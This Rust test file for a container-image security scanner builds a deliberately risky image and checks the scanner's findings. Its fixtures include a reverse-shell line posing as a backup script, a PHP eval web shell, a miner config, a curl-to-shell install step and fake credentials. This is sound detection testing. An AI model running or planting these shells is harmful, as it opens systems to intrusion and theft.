//! Baseline risks, exposed secrets and malicious samples on an image built by this test
//! (a docker-save archive written with the `tar` crate), and on the real alpine 3.10 image.

use std::path::{Path, PathBuf};
use std::process::Command;

use imagewarden_scanner::checks::{self, CheckFindings, CheckOptions};
use imagewarden_scanner::finding::CheckFinding;
use imagewarden_scanner::pipeline;
use imagewarden_scanner::source::{ImageRef, ScannedImage};

const AWS_KEY_IN_FILE: &str = "AKIAIOSFODNN7EXAMPLE";
const AWS_SECRET_IN_FILE: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
const AWS_KEY_IN_ENV: &str = "AKIAI44QH8DHBEXAMPLE";
const DB_PASSWORD_IN_ENV: &str = "s3cr3t-Passw0rd-for-tests";
const DOCKER_AUTH: &str = "Ym9iOnMzY3IzdC1kb2NrZXItcGFzcw==";
const GITHUB_TOKEN_DELETED: &str = "ghp_0123456789abcdefghijABCDEFGHIJ012345";

/// The EICAR test string, assembled here so that this source file does not hold it whole.
fn eicar() -> Vec<u8> {
    // Kept with every byte XORed with 0x20 and decoded at run time: an optimizing compiler
    // would otherwise lay two halves side by side, and the binary would hold the string.
    let key = std::hint::black_box(0x20u8);
    b"x\x15o\x01p\x05`ap{\x14|pzx\x15\x14\x08p~\x09\x17cc\x09\x17]\x04eicar\x0dstandard\x0dantivirus\x0dtest\x0dfile\x01\x04h\x0bh\x0a"
        .iter()
        .map(|b| b ^ key)
        .collect()
}

/// A throwaway RSA key made by the openssl CLI.
fn rsa_key(dir: &Path) -> Vec<u8> {
    let path = dir.join("key.pem");
    let status = Command::new("openssl")
        .args(["genrsa", "-traditional", "-out"])
        .arg(&path)
        .arg("2048")
        .status()
        .expect("openssl runs");
    assert!(status.success());
    std::fs::read(path).unwrap()
}

struct E(&'static str, Vec<u8>, u32);

fn layer(entries: &[E]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for E(path, data, mode) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(*mode);
        h.set_entry_type(tar::EntryType::Regular);
        b.append_data(&mut h, path, data.as_slice()).unwrap();
    }
    b.into_inner().unwrap()
}

/// Writes a docker-save archive of `layers` with `config`.
fn docker_archive(path: &Path, layers: &[Vec<u8>], config: &serde_json::Value) {
    let mut b = tar::Builder::new(Vec::new());
    let add = |b: &mut tar::Builder<Vec<u8>>, name: &str, data: &[u8]| {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        b.append_data(&mut h, name, data).unwrap();
    };
    let names: Vec<String> = (0..layers.len())
        .map(|i| format!("layer{i}/layer.tar"))
        .collect();
    for (name, data) in names.iter().zip(layers) {
        add(&mut b, name, data);
    }
    // Each layer's diff_id, as `docker save` writes them (the scanner checks them).
    let mut config = config.clone();
    config["rootfs"] = serde_json::json!({"type": "layers", "diff_ids": layers
        .iter()
        .map(|l| {
            use sha2::Digest;
            format!("sha256:{}", hex::encode(sha2::Sha256::digest(l)))
        })
        .collect::<Vec<_>>()});
    add(&mut b, "config.json", &serde_json::to_vec(&config).unwrap());
    let manifest = serde_json::json!([{
        "Config": "config.json",
        "RepoTags": ["risky:latest"],
        "Layers": names,
    }]);
    add(
        &mut b,
        "manifest.json",
        &serde_json::to_vec(&manifest).unwrap(),
    );
    std::fs::write(path, b.into_inner().unwrap()).unwrap();
}

/// Builds the risky test image and returns its target.
fn risky_image(dir: &Path) -> String {
    let shell = std::fs::read("/bin/sh").unwrap_or_else(|_| b"\x7fELF\x02\x01\x01\0shell".to_vec());
    let base = vec![
        E("etc/passwd", b"root:x:0:0:root:/root:/bin/sh\nbob:x:1000:1000::/home/bob:/bin/sh\n".to_vec(), 0o644),
        E("etc/shadow", b"root:!::0:::::\nbob::19000:0:99999:7:::\n".to_vec(), 0o640),
        E("bin/su", b"\x7fELF\x02\x01\x01\0su".to_vec(), 0o4755),
        E("usr/local/bin/rootsh", shell, 0o4755),
        E("usr/bin/tool", b"\x7fELF\x02\x01\x01\0tool".to_vec(), 0o4755),
        E("srv/data/shared.txt", b"anyone may write here\n".to_vec(), 0o666),
        E("tmp/scratch", b"expected to be world-writable\n".to_vec(), 0o666),
        E("home/bob/eicar.com", eicar(), 0o644),
        E(
            "opt/miner/config.json",
            br#"{"autosave": true, "donate-level": 1, "cpu": {"enabled": true}, "pools": [{"url": "stratum+tcp://pool.example.net:3333", "user": "wallet"}]}"#.to_vec(),
            0o644,
        ),
        E(
            "usr/local/bin/backup.sh",
            b"#!/bin/bash\n# nightly job\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n".to_vec(),
            0o755,
        ),
        E("var/www/html/up.php", b"<?php @eval($_POST['cmd']); ?>\n".to_vec(), 0o644),
        E(
            "app/settings.py",
            format!("DEBUG = False\nAWS_ACCESS_KEY_ID = \"{AWS_KEY_IN_FILE}\"\naws_secret_access_key = \"{AWS_SECRET_IN_FILE}\"\n").into_bytes(),
            0o644,
        ),
        E("root/.ssh/id_rsa", rsa_key(dir), 0o600),
        E(
            "root/.aws/credentials",
            format!("[default]\naws_access_key_id = {AWS_KEY_IN_FILE}\naws_secret_access_key = {AWS_SECRET_IN_FILE}\n").into_bytes(),
            0o600,
        ),
        E(
            "root/.docker/config.json",
            format!(r#"{{"auths": {{"registry.example.com": {{"auth": "{DOCKER_AUTH}"}}}}}}"#).into_bytes(),
            0o600,
        ),
        E(
            "home/bob/.docker/config.json",
            br#"{"auths": {}, "credsStore": "desktop"}"#.to_vec(),
            0o600,
        ),
        E(
            "root/.git-credentials",
            b"https://bob:hunter2-not-real@git.example.com\n".to_vec(),
            0o600,
        ),
        E("etc/ssh/ssh_host_ed25519_key", rsa_key(dir), 0o600),
        E("app/old.env", format!("GITHUB_TOKEN={GITHUB_TOKEN_DELETED}\n").into_bytes(), 0o644),
        E(
            "usr/lib/python3/site-packages/boto/tests/keys.py",
            format!("KEY = \"{AWS_KEY_IN_FILE}\"\n").into_bytes(),
            0o644,
        ),
    ];
    // The second layer deletes a secret and drops a setuid bit: neither may be reported.
    let top = vec![
        E("app/.wh.old.env", Vec::new(), 0o644),
        E("usr/bin/tool", b"\x7fELF\x02\x01\x01\0tool".to_vec(), 0o755),
    ];
    let config = serde_json::json!({
        "architecture": "amd64",
        "os": "linux",
        "config": {
            "Env": [
                "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                format!("AWS_ACCESS_KEY_ID={AWS_KEY_IN_ENV}"),
                format!("DB_PASSWORD={DB_PASSWORD_IN_ENV}"),
                "DB_PASSWORD_FILE=/run/secrets/db",
            ],
            "ExposedPorts": {"22/tcp": {}, "8080/tcp": {}},
            "Cmd": ["/bin/sh"],
        },
        "history": [
            {"created_by": "/bin/sh -c #(nop) ADD file:0123 in / "},
            {"created_by": "/bin/sh -c curl -fsSL https://get.example.com/install.sh | sh"},
        ],
        "rootfs": {"type": "layers", "diff_ids": []},
    });
    let path = dir.join("risky.tar");
    docker_archive(&path, &[layer(&base), layer(&top)], &config);
    format!("docker-archive:{}", path.display())
}

fn scan(target: &str) -> ScannedImage {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    runtime
        .block_on(pipeline::read_image(
            &ImageRef::parse(target).unwrap(),
            &Default::default(),
            &Default::default(),
        ))
        .unwrap()
}

fn all(found: &CheckFindings) -> Vec<&CheckFinding> {
    found
        .baseline
        .findings
        .iter()
        .chain(&found.secrets.findings)
        .chain(&found.malware.findings)
        .collect()
}

fn find<'a>(found: &'a CheckFindings, id: &str, path: Option<&str>) -> &'a CheckFinding {
    all(found)
        .into_iter()
        .find(|f| f.id == id && (path.is_none() || f.path.as_deref() == path))
        .unwrap_or_else(|| panic!("no {id} at {path:?} in {:#?}", all(found)))
}

fn secrets_in(text: &str) -> Vec<&'static str> {
    [
        AWS_KEY_IN_FILE,
        AWS_SECRET_IN_FILE,
        AWS_KEY_IN_ENV,
        DB_PASSWORD_IN_ENV,
        GITHUB_TOKEN_DELETED,
        DOCKER_AUTH,
        "hunter2-not-real",
        "MII",
    ]
    .into_iter()
    .filter(|s| text.contains(s))
    .collect()
}

#[test]
fn risky_image_reports_each_risk_with_its_id_and_evidence() {
    let dir = tempfile::tempdir().unwrap();
    let target = risky_image(dir.path());
    let image = scan(&target);
    let found = checks::run(&image, &CheckOptions::default());
    let base_layer = image.layers[0].digest.clone();

    // Configuration.
    let root = find(&found, "IW-CIS-4.1-ROOT-USER", None);
    assert_eq!(root.cis.as_deref(), Some("4.1"));
    assert_eq!(root.config_key.as_deref(), Some("config.User"));
    let hc = find(&found, "IW-CIS-4.6-NO-HEALTHCHECK", None);
    assert_eq!(hc.cis.as_deref(), Some("4.6"));
    let port = find(&found, "IW-BASE-PRIVILEGED-PORT", None);
    assert_eq!(
        port.config_key.as_deref(),
        Some("config.ExposedPorts[22/tcp]")
    );
    assert_eq!(
        all(&found)
            .iter()
            .filter(|f| f.id == "IW-BASE-PRIVILEGED-PORT")
            .count(),
        1,
        "8080 is not privileged"
    );
    let pipe = find(&found, "IW-BASE-PIPE-TO-SHELL", None);
    assert_eq!(pipe.config_key.as_deref(), Some("history[1].created_by"));
    let env_secrets: Vec<&CheckFinding> = all(&found)
        .into_iter()
        .filter(|f| f.id == "IW-CIS-4.10-ENV-SECRET")
        .collect();
    assert_eq!(env_secrets.len(), 2, "{env_secrets:#?}");
    let env_key = env_secrets[0];
    assert_eq!(env_key.config_key.as_deref(), Some("config.Env[1]"));
    assert_eq!(env_key.evidence, "AWS_ACCESS_KEY_ID=AKIA****");
    assert_eq!(
        env_key.title,
        "AWS access key ID in an environment variable"
    );
    assert_eq!(env_key.cis.as_deref(), Some("4.10"));
    let env_pw = env_secrets[1];
    assert_eq!(env_pw.config_key.as_deref(), Some("config.Env[2]"));
    assert_eq!(env_pw.evidence, "DB_PASSWORD=s3cr****");
    assert!(
        !all(&found)
            .iter()
            .any(|f| f.config_key.as_deref() == Some("config.Env[3]")),
        "a *_FILE variable names a path, not a secret"
    );

    // Files.
    let shadow = find(&found, "IW-BASE-EMPTY-PASSWORD", Some("etc/shadow"));
    assert!(shadow.evidence.contains("\"bob\""), "{}", shadow.evidence);
    assert_eq!(shadow.line, Some(2));
    assert_eq!(shadow.layer.as_deref(), Some(base_layer.as_str()));
    let suid = find(&found, "IW-CIS-4.8-SETUID", Some("usr/local/bin/rootsh"));
    assert_eq!(suid.cis.as_deref(), Some("4.8"));
    assert!(suid.evidence.contains("4755"), "{}", suid.evidence);
    assert_eq!(suid.layer.as_deref(), Some(base_layer.as_str()));
    let ww = find(
        &found,
        "IW-BASE-WORLD-WRITABLE",
        Some("srv/data/shared.txt"),
    );
    assert!(ww.evidence.contains("0666"));
    let key = find(&found, "IW-CIS-4.10-PRIVATE-KEY", Some("root/.ssh/id_rsa"));
    assert_eq!(key.evidence, "RSA private key");
    find(&found, "IW-SECRET-PRIVATE-KEY", Some("root/.ssh/id_rsa"));
    for (path, evidence) in [
        ("root/.aws/credentials", "AWS credentials file with keys"),
        (
            "root/.docker/config.json",
            "docker config.json with credentials for 1 registr(ies)",
        ),
        (
            "root/.git-credentials",
            ".git-credentials with stored credentials",
        ),
    ] {
        let f = find(&found, "IW-CIS-4.10-CREDENTIAL-FILE", Some(path));
        assert_eq!(
            (f.evidence.as_str(), f.cis.as_deref()),
            (evidence, Some("4.10"))
        );
    }
    let host_key = find(
        &found,
        "IW-CIS-4.10-SSH-HOST-KEY",
        Some("etc/ssh/ssh_host_ed25519_key"),
    );
    assert_eq!(host_key.layer.as_deref(), Some(base_layer.as_str()));
    let aws = find(
        &found,
        "IW-SECRET-AWS-ACCESS-KEY-ID",
        Some("app/settings.py"),
    );
    assert_eq!((aws.line, aws.evidence.as_str()), (Some(2), "AKIA****"));
    assert_eq!(aws.layer.as_deref(), Some(base_layer.as_str()));
    let aws_secret = find(&found, "IW-SECRET-AWS-SECRET-KEY", Some("app/settings.py"));
    assert_eq!(
        (aws_secret.line, aws_secret.evidence.as_str()),
        (Some(3), "wJal****")
    );
    let eicar = find(&found, "IW-MAL-EICAR", Some("home/bob/eicar.com"));
    assert!(eicar
        .evidence
        .contains("275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"));
    find(&found, "IW-MAL-XMRIG", Some("opt/miner/config.json"));
    let rs = find(
        &found,
        "IW-MAL-REVERSE-SHELL",
        Some("usr/local/bin/backup.sh"),
    );
    assert_eq!(rs.line, Some(3));
    find(&found, "IW-MAL-WEBSHELL", Some("var/www/html/up.php"));

    // What must not be reported: allowlisted setuid, temporary directories, files deleted or
    // fixed by a later layer, vendored test fixtures.
    let paths: Vec<&str> = all(&found)
        .iter()
        .filter_map(|f| f.path.as_deref())
        .collect();
    for quiet in [
        "bin/su",
        "tmp/scratch",
        "usr/bin/tool",
        "app/old.env",
        "usr/lib/python3/site-packages/boto/tests/keys.py",
        "home/bob/.docker/config.json",
    ] {
        assert!(
            !paths.contains(&quiet),
            "{quiet} reported: {:#?}",
            all(&found)
        );
    }
    // Each class is counted in its own summary.
    assert_eq!(
        found.malware.summary.total(),
        4,
        "{:#?}",
        found.malware.findings
    );
    assert_eq!(
        found.secrets.summary.total() as usize,
        found.secrets.findings.len()
    );
    assert_eq!(
        (found.baseline.summary.critical, found.baseline.summary.high),
        (1, 8),
        "critical: AWS key in Env; high: root user, empty password, private key, DB_PASSWORD, 3 credential files, SSH host key"
    );

    let json = serde_json::to_string(&found).unwrap();
    assert_eq!(
        secrets_in(&json),
        Vec::<&str>::new(),
        "unredacted secret in {json}"
    );
}

fn cli(args: &[&str]) -> (bool, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_imagewarden"))
        .args(args)
        .output()
        .unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn cli_reports_sibling_sections_and_never_prints_a_secret() {
    let dir = tempfile::tempdir().unwrap();
    let target = risky_image(dir.path());
    let hashes = dir.path().join("hashes.txt");
    // The digest of the reverse-shell script, as a user-supplied hash list would list it.
    let script = b"#!/bin/bash\n# nightly job\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";
    use sha2::Digest;
    let digest = hex::encode(sha2::Sha256::digest(script));
    std::fs::write(&hashes, format!("# test list\n{digest} backdoor-script\n")).unwrap();
    let hashes = hashes.display().to_string();
    let scanners = "baseline,secret,malware";

    let (ok, json, err) = cli(&[
        "scan",
        &target,
        "--scanners",
        scanners,
        "--malware-hashes",
        &hashes,
        "--format",
        "json",
    ]);
    assert!(ok, "{err}");
    assert_eq!(
        secrets_in(&json),
        Vec::<&str>::new(),
        "unredacted secret in the JSON report"
    );
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    for section in ["baselineRisks", "secrets", "maliciousSamples"] {
        assert!(
            v[section]["summary"]["high"].is_u64(),
            "{section}: {}",
            v[section]
        );
        assert!(
            !v[section]["findings"].as_array().unwrap().is_empty(),
            "{section}"
        );
    }
    assert_eq!(v["vulnerabilities"].as_array().map(Vec::len), Some(0));
    let ids: Vec<&str> = v["maliciousSamples"]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["id"].as_str().unwrap())
        .collect();
    assert!(
        ids.contains(&"IW-MAL-HASH"),
        "user hash list not applied: {ids:?}"
    );
    let root = v["baselineRisks"]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == "IW-CIS-4.1-ROOT-USER")
        .expect("root user");
    assert_eq!(root["cis"], "4.1");
    assert!(root["remediation"].as_str().unwrap().contains("USER"));

    let (ok, table, err) = cli(&["scan", &target, "--scanners", scanners, "--format", "table"]);
    assert!(ok, "{err}");
    assert_eq!(secrets_in(&table), Vec::<&str>::new());
    for heading in [
        "Baseline risks:",
        "Secrets:",
        "Malicious samples:",
        "IW-MAL-EICAR",
    ] {
        assert!(table.contains(heading), "{heading} missing from\n{table}");
    }

    let (ok, sarif, err) = cli(&["scan", &target, "--scanners", scanners, "--format", "sarif"]);
    assert!(ok, "{err}");
    assert_eq!(secrets_in(&sarif), Vec::<&str>::new());
    let s: serde_json::Value = serde_json::from_str(&sarif).unwrap();
    let results = s["runs"][0]["results"].as_array().unwrap();
    for id in [
        "IW-CIS-4.1-ROOT-USER",
        "IW-SECRET-AWS-ACCESS-KEY-ID",
        "IW-MAL-EICAR",
    ] {
        assert!(
            results.iter().any(|r| r["ruleId"] == id),
            "{id} not in SARIF"
        );
    }

    // Only the scanners asked for run.
    let (ok, json, err) = cli(&["scan", &target, "--scanners", "secret", "--format", "json"]);
    assert!(ok, "{err}");
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert!(v["baselineRisks"].is_null() && v["maliciousSamples"].is_null());
    assert!(!v["secrets"]["findings"].as_array().unwrap().is_empty());
}

fn testdata(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("testdata")
        .join(name)
}

#[test]
fn alpine_310_has_only_the_expected_baseline_risks() {
    let target = format!("docker-archive:{}", testdata("alpine-310.tar.gz").display());
    let started = std::time::Instant::now();
    let image = scan(&target);
    let found = checks::run(&image, &CheckOptions::default());
    eprintln!(
        "alpine 3.10 scanned with all checks in {:?}",
        started.elapsed()
    );
    let mut got: Vec<(String, Option<String>)> = all(&found)
        .iter()
        .map(|f| (f.id.clone(), f.path.clone().or(f.config_key.clone())))
        .collect();
    got.sort();
    let want: Vec<(String, Option<String>)> = EXPECTED_ALPINE
        .iter()
        .map(|(id, at)| (id.to_string(), Some(at.to_string())))
        .collect();
    assert_eq!(got, want, "{:#?}", all(&found));
    assert!(found.secrets.findings.is_empty());
    assert!(found.malware.findings.is_empty());
}

/// alpine:3.10 runs as root and has no HEALTHCHECK; nothing else is a risk.
const EXPECTED_ALPINE: &[(&str, &str)] = &[
    ("IW-CIS-4.1-ROOT-USER", "config.User"),
    ("IW-CIS-4.6-NO-HEALTHCHECK", "config.Healthcheck"),
];

#[test]
fn a_directory_target_reports_setuid_and_world_writable_files_like_an_image() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::create_dir_all(root.join("usr/local/bin")).unwrap();
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::write(root.join("usr/local/bin/rootshell"), b"#!/bin/sh\n").unwrap();
    std::fs::set_permissions(
        root.join("usr/local/bin/rootshell"),
        std::fs::Permissions::from_mode(0o4755),
    )
    .unwrap();
    std::fs::write(root.join("etc/app.conf"), b"x=1\n").unwrap();
    std::fs::set_permissions(
        root.join("etc/app.conf"),
        std::fs::Permissions::from_mode(0o666),
    )
    .unwrap();
    let image = scan(&format!("dir:{}", root.display()));
    let found = checks::run(&image, &CheckOptions::default());
    find(&found, "IW-CIS-4.8-SETUID", Some("usr/local/bin/rootshell"));
    find(&found, "IW-BASE-WORLD-WRITABLE", Some("etc/app.conf"));
}
